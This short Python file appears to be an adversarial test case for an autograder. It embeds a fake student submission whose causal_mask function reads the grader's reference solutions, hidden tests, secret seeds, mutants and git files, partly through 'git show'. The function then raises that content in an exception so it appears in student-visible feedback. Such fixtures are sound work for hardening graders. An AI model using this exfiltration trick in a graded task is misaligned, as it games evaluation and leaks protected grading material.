"""Reads whatever it can of the grader's checkout (solutions, hidden tests and their seed, mutants, git objects
shown through git) and raises it, so that it lands in the feedback a student reads."""
CLASS = "1 the grader's repository"
BASE = "reference"
EXPECT = "below"
CODE = r'''
import os as _os
import subprocess as _subprocess

_PATHS = ["@REPO@/solutions/masking/masking.py", "@REPO@/autograder/suites/masking/hidden/test_hidden.py",
          "@REPO@/autograder/suites/masking/hidden/SECRET", "@REPO@/autograder/suites/lm/hidden/SECRET",
          "@REPO@/tests/mutants/masking/no_scaling.py", "@REPO@/.git/HEAD", "@REPO@/.git/config"]


def _loot() -> str:
    found = []
    for path in _PATHS:
        try:
            with open(path, errors="replace") as handle:
                found.append(f"READ {path}: {handle.read()[:3000]}")
        except OSError as exc:
            found.append(f"refused {path}: {type(exc).__name__}")
    for name in ("autograder/suites/masking/hidden/test_hidden.py", "autograder/suites/masking/hidden/SECRET"):
        try:
            shown = _subprocess.run(["git", "-C", "@REPO@", "show", f"HEAD:{name}"], capture_output=True,
                                    text=True, timeout=10).stdout
            found.append(f"GIT {name}: {shown[:3000]}")
        except Exception as exc:
            found.append(f"no git: {type(exc).__name__}")
    return " | ".join(found)


def causal_mask(T, device=None):
    raise RuntimeError(_loot())
'''
